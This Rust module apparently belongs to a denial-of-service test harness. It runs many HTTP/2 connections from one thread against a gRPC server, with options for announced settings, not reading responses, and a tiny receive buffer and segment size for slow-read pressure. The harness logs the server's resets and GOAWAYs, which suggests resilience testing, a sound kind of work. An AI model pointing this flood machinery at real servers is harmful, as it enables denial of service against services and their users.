//! The attacker's connections over HTTP/2, many of them served by one thread.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use anyhow::Result;
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use socket2::{Domain, Protocol, Socket, Type};

use super::Attacker;
use crate::clock;
use crate::frames::{self, FIRST_WINDOW, HEAD, LARGEST_WINDOW};

/// The properties of an attacker's connections.
pub struct FloodPlan {
    pub connections: usize,
    /// The settings that it announces.
    pub settings: &'static [(u16, u32)],
    /// Whether it reads the server's output.
    pub reads: bool,
    /// Whether its receive buffer is small.
    pub narrow: bool,
}

impl FloodPlan {
    pub const fn new(connections: usize) -> Self {
        Self { connections, settings: &[], reads: true, narrow: false }
    }
}

/// The number of bytes that are generated ahead.
const AHEAD: usize = 64 << 10;
/// The smallest receive buffer that systems permit.
const NARROW_BUFFER: usize = 2304;
/// The smallest segment that every path carries.
const NARROW_SEGMENT: u32 = 536;
const CONNECT_MAX: Duration = Duration::from_millis(500);

/// An HTTP/2 connection of the attacker.
pub struct Http2Peer {
    socket: TcpStream,
    out: Vec<u8>,
    gone: usize,
    input: Vec<u8>,
    /// The bytes of data that are still skipped.
    skipped: usize,
    closed: bool,
    /// The number of times that the attack was asked for more output.
    pub step: u64,
    pub next_stream: u32,
    /// The number of calls.
    pub asked: u64,
    /// The number of calls that the server has answered or reset.
    pub answered: u64,
    pub pongs: u64,
    /// The time of the attack's latest action, which the attack sets.
    pub last: Instant,
}

impl Http2Peer {
    fn connect(attacker: &Attacker, plan: &FloodPlan) -> Result<Self> {
        let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
        if plan.narrow {
            socket.set_recv_buffer_size(NARROW_BUFFER)?;
            socket.set_tcp_mss(NARROW_SEGMENT)?;
        }
        socket.connect_timeout(&attacker.grpc.into(), CONNECT_MAX)?;
        socket.set_tcp_nodelay(true)?;
        socket.set_nonblocking(true)?;
        let mut peer = Self {
            socket: socket.into(),
            out: Vec::new(),
            gone: 0,
            input: Vec::new(),
            skipped: 0,
            closed: false,
            step: 0,
            next_stream: 1,
            asked: 0,
            answered: 0,
            pongs: 0,
            last: clock::now(),
        };
        peer.out.extend_from_slice(frames::PREFACE);
        frames::settings(&mut peer.out, plan.settings);
        frames::number(&mut peer.out, frames::WINDOW_UPDATE, 0, LARGEST_WINDOW - FIRST_WINDOW);
        Ok(peer)
    }

    /// Returns the buffer of the next output.
    pub fn out(&mut self) -> &mut Vec<u8> {
        &mut self.out
    }

    fn backlog(&self) -> usize {
        self.out.len() - self.gone
    }

    /// Returns the number for a new stream.
    pub fn stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream += 2;
        self.asked += 1;
        stream
    }

    /// Appends a call.
    pub fn call(&mut self, head: &[u8], message: &[u8]) {
        let stream = self.stream();
        frames::call(&mut self.out, stream, head, message);
    }

    /// Writes as much as the socket accepts and the limit permits.
    fn write(&mut self, attacker: &mut Attacker) -> bool {
        let before = self.gone;
        while self.backlog() > 0 && !self.closed {
            let most = usize::try_from(attacker.room()).unwrap_or(usize::MAX).min(self.backlog());
            if most == 0 {
                break;
            }
            match self.socket.write(&self.out[self.gone..self.gone + most]) {
                Ok(sent) => {
                    self.gone += sent;
                    attacker.sent(sent);
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(error) => {
                    // The last output of the server is still to be read.
                    self.read(attacker);
                    self.end(attacker, &error.kind().to_string());
                }
            }
        }
        let progress = self.gone > before;
        if self.backlog() == 0 {
            self.out.clear();
            self.gone = 0;
        }
        progress
    }

    fn end(&mut self, attacker: &mut Attacker, how: &str) {
        if !std::mem::replace(&mut self.closed, true) {
            attacker.told(how);
        }
    }

    fn read(&mut self, attacker: &mut Attacker) {
        let mut piece = [0; 64 << 10];
        // Bounded, so that the other connections are read too.
        for _ in 0..16 {
            if self.closed {
                return;
            }
            match self.socket.read(&mut piece) {
                Ok(0) => self.end(attacker, "closed"),
                Ok(read) => self.take(attacker, &piece[..read]),
                Err(error) if error.kind() == ErrorKind::WouldBlock => return,
                Err(error) if error.kind() == ErrorKind::Interrupted => {}
                Err(error) => self.end(attacker, &error.kind().to_string()),
            }
        }
    }

    fn take(&mut self, attacker: &mut Attacker, mut piece: &[u8]) {
        while !piece.is_empty() && !self.closed {
            if self.skipped > 0 {
                let skipped = self.skipped.min(piece.len());
                self.skipped -= skipped;
                piece = &piece[skipped..];
                continue;
            }
            let wanted = match self.input.first_chunk::<HEAD>() {
                Some([a, b, c, kind, ..]) if *kind != frames::DATA => {
                    HEAD + u32::from_be_bytes([0, *a, *b, *c]) as usize
                }
                _ => HEAD,
            };
            let taken = (wanted - self.input.len()).min(piece.len());
            self.input.extend_from_slice(&piece[..taken]);
            piece = &piece[taken..];
            if let Some([a, b, c, kind, flags, ..]) = self.input.first_chunk::<HEAD>().copied() {
                let length = u32::from_be_bytes([0, a, b, c]) as usize;
                if kind == frames::DATA {
                    self.skipped = length;
                    self.answered += u64::from(flags & frames::END_STREAM != 0);
                    self.input.clear();
                } else if self.input.len() == HEAD + length {
                    let frame = std::mem::take(&mut self.input);
                    self.hear(attacker, kind, flags, &frame[HEAD..]);
                    self.input = frame;
                    self.input.clear();
                }
            }
        }
    }

    fn hear(&mut self, attacker: &mut Attacker, kind: u8, flags: u8, payload: &[u8]) {
        let number = |at: usize| {
            payload
                .get(at..)
                .and_then(|rest| rest.first_chunk())
                .map_or(0, |bytes| u32::from_be_bytes(*bytes))
        };
        match kind {
            frames::HEADERS => {
                if flags & frames::END_STREAM != 0 {
                    self.answered += 1;
                }
                if let Some(status) = frames::grpc_status(payload) {
                    attacker.told(format!("grpc-status {status}"));
                }
            }
            frames::RST_STREAM => {
                self.answered += 1;
                attacker.told(format!("RST_STREAM {}", number(0)));
            }
            frames::SETTINGS if flags & frames::ACK == 0 => {
                frames::frame(&mut self.out, frames::SETTINGS, frames::ACK, 0, &[]);
            }
            frames::PING if flags & frames::ACK == 0 => {
                frames::frame(&mut self.out, frames::PING, frames::ACK, 0, payload);
            }
            frames::PING => self.pongs += 1,
            frames::GOAWAY => {
                self.end(attacker, &format!("GOAWAY {}", number(4)));
            }
            _ => {}
        }
    }
}

/// Attacks over the connections of a plan until the attack ends or `done` returns true. `feed` is called for
/// more output whenever a connection has little left.
pub fn drive(
    attacker: &mut Attacker,
    plan: &FloodPlan,
    mut feed: impl FnMut(&mut Attacker, &mut Http2Peer),
    mut done: impl FnMut(&[Option<Http2Peer>]) -> bool,
) {
    let mut peers: Vec<Option<Http2Peer>> = (0..plan.connections).map(|_| None).collect();
    while attacker.goes_on() && !done(&peers) {
        let mut progress = false;
        for slot in &mut peers {
            if slot.is_none() && attacker.may_connect() {
                match Http2Peer::connect(attacker, plan) {
                    Ok(peer) => *slot = Some(peer),
                    Err(_) => attacker.told("no connection"),
                }
            }
            let Some(peer) = slot else { continue };
            if peer.backlog() < AHEAD && attacker.room() > 0 {
                feed(attacker, peer);
                peer.step += 1;
            }
            progress |= peer.backlog() > 0 && peer.write(attacker);
        }
        look(attacker, &mut peers, plan, progress);
        for slot in &mut peers {
            if slot.as_ref().is_some_and(|peer| peer.closed) {
                *slot = None;
            }
        }
    }
}

/// Reads all connections. Waits for a moment if nothing was received and nothing could be sent.
fn look(attacker: &mut Attacker, peers: &mut [Option<Http2Peer>], plan: &FloodPlan, progress: bool) {
    let limited = attacker.room() == 0;
    let mut waiting: Vec<PollFd<'_>> = Vec::with_capacity(peers.len());
    for peer in peers.iter().flatten() {
        let mut flags = PollFlags::empty();
        if plan.reads {
            flags |= PollFlags::IN;
        }
        if peer.backlog() > 0 && !limited {
            flags |= PollFlags::OUT;
        }
        waiting.push(PollFd::new(&peer.socket, flags));
    }
    let pause = Timespec { tv_sec: 0, tv_nsec: if progress { 0 } else { 5_000_000 } };
    if poll(&mut waiting, Some(&pause)).is_err() {
        return;
    }
    let ready: Vec<PollFlags> = waiting.iter().map(PollFd::revents).collect();
    drop(waiting);
    for (peer, ready) in peers.iter_mut().flatten().zip(ready) {
        if plan.reads && ready.intersects(PollFlags::IN | PollFlags::HUP | PollFlags::ERR) {
            peer.read(attacker);
        } else if ready.intersects(PollFlags::HUP | PollFlags::ERR) {
            peer.end(attacker, "hung up");
        }
    }
}
